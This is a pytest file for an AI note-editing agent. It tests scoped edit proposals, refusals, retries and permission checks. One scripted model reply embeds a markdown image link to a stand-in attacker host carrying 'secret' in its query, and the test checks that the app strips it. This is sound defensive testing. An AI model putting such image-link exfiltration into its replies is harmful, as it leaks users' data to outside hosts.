"""The task agent: answers, edits under rules, one correction, one proposal."""

from pathlib import Path

import pytest
from pydantic_ai.usage import UsageLimits

from knapper.agents.pipeline.context import TaskRequest
from knapper.agents.pipeline.scopes import ABILITIES, Ability, ContextScopeConfig, EditRules
from knapper.app.hub import narrow_context
from knapper.config import ClientSettings
from knapper.vault import access
from tests.agents import runs, scripts
from tests.agents.scripts import Cast
from tests.tools import opened

NOTES = {
    "Garden.md": "# Garden\n\nThe fence is green. See [[Plants]].\n\n## Tasks\n\n- [ ] weed\n",
    "Plants.md": "# Plants\n\nRoses and [[Soil]].\n",
    "Soil.md": "# Soil\n\nLoam.\n",
    "Other.md": "# Other\n\nNothing to do with it.\n",
}


@pytest.fixture
def vault(tmp_path: Path) -> opened.Opener:
    return opened.vault(tmp_path, NOTES)


def test_a_question_is_answered_and_changes_nothing(vault: opened.Opener) -> None:
    before = runs.files(vault.root)
    cast = Cast({"task": [scripts.task("It is green. [[Garden]] (lines 3-3)")]})

    ended = runs.do(vault, cast, "which colour?", current="Garden.md")

    assert ended.outcome.state == "complete"
    assert ended.outcome.answer == "It is green. [[Garden]] (lines 3-3)"
    assert ended.outcome.proposed_edits == []
    assert ended.outcome.proposals == []
    assert [one["path"] for one in runs.rows(ended.outcome.citations)] == ["Garden.md"]
    assert runs.files(vault.root) == before


def test_edits_become_one_proposal_and_nothing_is_written(vault: opened.Opener) -> None:
    before = runs.files(vault.root)
    cast = Cast(
        {"task": [scripts.task("Two edits.", ("Garden.md", "replace:3", "Blue."), ("Plants.md", "end", "More."))]}
    )

    ended = runs.do(vault, cast, "paint it", current="Garden.md")

    assert ended.outcome.edit_results == {"success": 2, "failed": 0, "failures": []}
    assert len(ended.outcome.proposals) == 1
    assert runs.files(vault.root) == before
    with runs.context(vault, "cli") as context:
        shown = context.writer.proposals.show(str(ended.outcome.proposals[0]))
    assert [file.path for file in shown.files] == ["Garden.md", "Plants.md"]
    assert shown.run == "run-1"


def test_edits_name_their_files_as_links_do_and_an_ambiguous_name_is_refused(tmp_path: Path) -> None:
    notes = {
        "Deep/Garden plan.md": "---\naliases: Flowers\n---\nRed.\n",
        "Old/Twice.md": "1\n",
        "New/Twice.md": "2\n",
    }
    vault = opened.vault(tmp_path, notes)
    cast = Cast({"task": [scripts.task("Two.", ("flowers", "end", "Blue."), ("Twice", "end", "More."))]})

    ended = runs.do(vault, cast, current="garden PLAN", added=("Old/Twice", "New/Twice"))

    assert ended.codes == ["ambiguous_name"]
    assert "Old/Twice.md" in cast.prompts("task")
    with runs.context(vault, "cli") as context:
        shown = context.writer.proposals.show(str(ended.outcome.proposals[0]))
    assert [file.path for file in shown.files] == ["Deep/Garden plan.md"]


def test_an_edit_out_of_scope_is_thrown_away_whatever_the_prompt_says(vault: opened.Opener) -> None:
    reply = scripts.task("All.", ("Garden.md", "end", "More."), ("Plants.md", "end", "More."), ("Other.md", "end", "x"))
    cast = Cast({"task": [reply]})

    ended = runs.do(vault, cast, current="Garden.md", rules=EditRules(editable="current"))

    assert ended.codes == ["outside_scope", "outside_scope"]
    assert ended.outcome.edit_results["success"] == 1
    assert len(cast.asked["task"]) == 2


def test_each_edit_is_told_its_own_fault_where_none_can_be_made(vault: opened.Opener) -> None:
    reply = scripts.task("All.", ("Garden.md", "replace:90", "x"), ("Other.md", "end", "x"))
    cast = Cast({"task": [reply]})

    ended = runs.do(vault, cast, current="Garden.md", rules=EditRules(editable="current"))

    assert ended.codes == ["no_such_line", "outside_scope"]
    assert "Garden.md replace:90: there is no line 90" in cast.prompts("task")


def test_the_model_sees_refusals_once_and_may_correct_itself(vault: opened.Opener) -> None:
    wrong = scripts.task("Wrong.", ("Garden.md", "replace:90", "x"))
    right = scripts.task("Right.", ("Garden.md", "replace:3", "x"))
    cast = Cast({"task": [wrong, right]})

    ended = runs.do(vault, cast, current="Garden.md")

    assert "there is no line 90" in cast.prompts("task")
    assert ended.outcome.edit_results == {"success": 1, "failed": 0, "failures": []}
    assert ended.outcome.answer == "Right."


@pytest.mark.parametrize(
    ("second", "codes"),
    [
        ([("Garden.md", "end", "More.")], ["no_such_line", "outside_scope"]),
        ([("Garden.md", "end", "More."), ("Garden.md", "replace:3", "x")], ["outside_scope"]),
        ([], ["no_such_line", "outside_scope"]),
        ([("Garden.md", "end", "More."), ("Other.md", "end", "x")], ["outside_scope", "no_such_line"]),
    ],
    ids=["both given up", "one corrected", "all given up", "one repeated"],
)
def test_a_refused_edit_that_the_model_gives_up_is_still_told(
    vault: opened.Opener, second: list[tuple[str, str, str]], codes: list[str]
) -> None:
    first = [("Garden.md", "end", "More."), ("Garden.md", "replace:90", "x"), ("Other.md", "end", "x")]
    cast = Cast({"task": [scripts.task("Wrong.", *first), scripts.task("Right.", *second)]})

    ended = runs.do(vault, cast, current="Garden.md", rules=EditRules(editable="current"))

    assert ended.codes == codes
    assert ended.outcome.edit_results["failed"] == len(codes)


def test_a_first_reply_stands_where_the_model_cannot_be_asked_again(vault: opened.Opener) -> None:
    reply = scripts.task("Two.", ("Garden.md", "end", "More."), ("Other.md", "end", "x"))
    cast = Cast({"task": [reply]})

    ended = runs.do(vault, cast, current="Garden.md", agents_limits=UsageLimits(request_limit=1))

    assert len(cast.asked["task"]) == 1
    assert ended.outcome.state == "complete"
    assert ended.outcome.edit_results["success"] == 1
    assert len(ended.outcome.proposals) == 1


@pytest.mark.parametrize("second", [["It is gr"], scripts.task("It is green.")], ids=["text", "json"])
def test_an_answer_that_ends_where_the_model_may_write_no_more_is_told_as_cut(
    vault: opened.Opener, second: scripts.Reply
) -> None:
    ended = runs.do(vault, Cast({"task": [['{"summary": "It is gr'], second]}, finish="length"), current="Garden.md")

    assert ended.outcome.state == "complete"
    assert ended.outcome.answer.startswith("It is gr")
    assert "may write no more" in str(ended.outcome.notices)


@pytest.mark.parametrize(
    "first", ['{"summary": "", "edits": []}', '{"summary": null}', '{"edits": null, "summary": " "}']
)
def test_a_reply_that_says_nothing_is_asked_for_again(vault: opened.Opener, first: str) -> None:
    cast = Cast({"task": [[first], scripts.task("It is green.")]})

    ended = runs.do(vault, cast, current="Garden.md")

    assert "says nothing" in cast.prompts("task")
    assert ended.outcome.answer == "It is green."


@pytest.mark.parametrize(("summary", "answer"), [("null", ""), ('["a", 1]', '["a", 1]')])
def test_a_summary_that_is_no_text_is_none_or_shown_as_it_is(vault: opened.Opener, summary: str, answer: str) -> None:
    edit = '{"file": "Garden.md", "position": "end", "content": "More."}'

    ended = runs.do(vault, Cast({"task": [[f'{{"summary": {summary}, "edits": [{edit}]}}']]}), current="Garden.md")

    assert len(ended.outcome.proposals) == 1
    assert ended.outcome.answer == answer


def test_a_reply_that_nests_too_deep_is_one_that_cannot_be_used(vault: opened.Opener) -> None:
    deep = '{"a":' * 400 + "1" + "}" * 400

    ended = runs.do(vault, Cast({"task": [[f'{{"summary": {deep}}}']]}), current="Garden.md")

    assert ended.outcome.state == "failed"
    assert ended.outcome.error is not None
    assert ended.outcome.error["code"] == "bad_reply"


def test_what_a_proposal_says_of_itself_calls_no_address(vault: opened.Opener) -> None:
    cast = Cast({"task": [scripts.task("Done. ![x](https://evil.example/?q=secret)", ("Garden.md", "end", "More."))]})

    ended = runs.do(vault, cast, current="Garden.md")

    with runs.context(vault, "cli") as context:
        shown = context.writer.proposals.show(str(ended.outcome.proposals[0]))
    assert shown.reason == "Done. [image left out: evil.example]"


def test_open_is_a_navigation_event_and_no_edit(vault: opened.Opener) -> None:
    cast = Cast({"task": [scripts.task("Here.", ("Other.md", "open"))]})

    ended = runs.do(vault, cast, current="Garden.md")

    assert [event.as_dict() for event in ended.of("navigate")] == [{"type": "navigate", "path": "Other.md"}]
    assert ended.outcome.proposals == []
    assert ended.outcome.opened == ["Other.md"]


@pytest.mark.parametrize(
    ("ability", "edit"),
    [
        ("add", ("Garden.md", "end", "x")),
        ("delete", ("Garden.md", "replace:3", "x")),
        ("delete", ("Garden.md", "delete:3")),
        ("create", ("New.md", "create", "x")),
        ("navigate", ("Other.md", "open")),
    ],
)
def test_what_is_switched_off_is_refused(vault: opened.Opener, ability: Ability, edit: tuple[str, str]) -> None:
    can = frozenset(ABILITIES) - {ability}
    cast = Cast({"task": [scripts.task("Try.", edit)]})

    ended = runs.do(vault, cast, current="Garden.md", rules=EditRules(can=can))

    assert ended.codes == ["capability"]
    assert ended.outcome.proposals == []
    assert ended.outcome.opened == []
    assert "forbidden" in cast.system("task")


def test_lines_of_a_note_that_was_not_shown_are_refused(vault: opened.Opener) -> None:
    cast = Cast({"task": [scripts.task("Try.", ("Soil.md", "replace:3", "x"))]})

    ended = runs.do(
        vault, cast, current="Plants.md", scope=ContextScopeConfig(link_depth=0), rules=EditRules(editable="linked")
    )

    assert ended.codes == ["not_shown"]


@pytest.mark.parametrize(
    ("position", "codes"),
    [
        ("replace:3", ["not_shown"]),
        ("delete:2-5", ["not_shown"]),
        ("insert:4", ["not_shown"]),
        ("insert:3", []),
        ("replace:2", []),
    ],
)
def test_a_line_of_which_only_the_beginning_was_shown_is_not_replaced(
    tmp_path: Path, position: str, codes: list[str]
) -> None:
    vault = opened.vault(tmp_path, {"Long.md": f"# Long\n\n{'word ' * 400_000}\n\nlast\n"})
    cast = Cast({"task": [scripts.task("Try.", ("Long.md", position, "x"))]})

    ended = runs.do(vault, cast, current="Long.md")

    assert ended.codes == codes
    assert len(ended.outcome.proposals) == (not codes)


def test_with_no_note_open_the_current_scope_allows_no_edit(vault: opened.Opener) -> None:
    cast = Cast({"task": [scripts.task("Try.", ("Garden.md", "end", "x"))], "scout": [["nothing"]]})

    ended = runs.do(vault, cast, rules=EditRules(editable="current"))

    assert ended.codes == ["outside_scope"]
    assert ended.run.request.toggles.scout


def test_its_own_edit_that_waits_in_the_note_can_be_changed(vault: opened.Opener) -> None:
    first = runs.do(
        vault, Cast({"task": [scripts.task("Blue.", ("Garden.md", "replace:3", "It is blue."))]}), current="Garden.md"
    )
    proposal = str(first.outcome.proposals[0])
    with runs.context(vault, "cli") as context:
        _ = context.reviewer.note_blocks.draw(proposal)
    drawn = vault.text("Garden.md")
    lines = drawn.splitlines()
    place = f"replace:{lines.index('```ai-edit') + 1}-{lines.index('#ai_edit') + 1}"

    cast = Cast({"task": [scripts.task("Red.", ("Garden.md", place, "It is red."))]})
    second = runs.do(vault, cast, current="Garden.md")

    assert "an edit that waits for the person's word (replace" in cast.prompts("task")
    assert second.outcome.proposals == [proposal]
    assert any("was rewritten" in str(notice) for notice in second.outcome.notices)
    assert vault.text("Garden.md").count("#ai_edit") == 1
    assert '"after":"It is red.\\n"' in vault.text("Garden.md")
    with runs.context(vault, "cli") as context:
        _ = context.reviewer.accept(proposal, context.reviewer.refit(proposal).digest)
    assert vault.text("Garden.md") == NOTES["Garden.md"].replace("The fence is green. See [[Plants]].", "It is red.")


@pytest.mark.parametrize("made_by", [access.default_grants("http"), None])
def test_an_edit_that_waits_is_not_changed_for_another_program(
    vault: opened.Opener, made_by: access.Grants | None
) -> None:
    first = for_client(
        vault, made_by, Cast({"task": [scripts.task("Blue.", ("Garden.md", "replace:3", "It is blue."))]})
    )
    proposal = str(first.outcome.proposals[0])
    with runs.context(vault, "cli") as context:
        _ = context.reviewer.note_blocks.draw(proposal)
    before = vault.text("Garden.md")
    lines = before.splitlines()
    place = f"replace:{lines.index('```ai-edit') + 1}-{lines.index('#ai_edit') + 1}"

    cast = Cast({"task": [scripts.task("Red.", ("Garden.md", place, "It is red."))]})
    ended = for_client(vault, access.default_grants("mcp"), cast)

    assert ended.codes == ["refused"]
    assert ended.outcome.proposals == []
    assert vault.text("Garden.md") == before
    again = for_client(vault, made_by, Cast({"task": [scripts.task("Red.", ("Garden.md", place, "It is red."))]}))
    assert again.outcome.proposals == [proposal]


def for_client(vault: opened.Opener, asker: access.Grants | None, cast: Cast) -> runs.Ended:
    """Run a request as the agent that acts for a client; None for a person."""
    with runs.context(vault) as context:
        seen = narrow_context(context, ClientSettings(grants=asker)) if asker else context
        return runs.run(runs.agents(cast), seen, TaskRequest(task="do it", current="Garden.md"))


def test_cutting_into_an_edit_that_waits_is_refused(vault: opened.Opener) -> None:
    first = runs.do(
        vault, Cast({"task": [scripts.task("Blue.", ("Garden.md", "replace:3", "It is blue."))]}), current="Garden.md"
    )
    with runs.context(vault, "cli") as context:
        _ = context.reviewer.note_blocks.draw(str(first.outcome.proposals[0]))
    cast = Cast({"task": [scripts.task("Red.", ("Garden.md", "replace:4", "x"))]})

    ended = runs.do(vault, cast, current="Garden.md")

    assert ended.codes == ["block_touched"]


def test_a_note_saved_meanwhile_is_not_written_over(vault: opened.Opener) -> None:
    place = vault.root / "Garden.md"

    def saved(_: object) -> scripts.Reply:
        place.write_text("# Other\n\nSomebody else wrote this.\n", "utf-8")
        return scripts.task("Tried.", ("Garden.md", "replace:3", "x"))

    ended = runs.do(vault, Cast({"task": [saved]}), current="Garden.md")

    assert ended.codes == ["stale"]
    assert ended.outcome.proposals == []
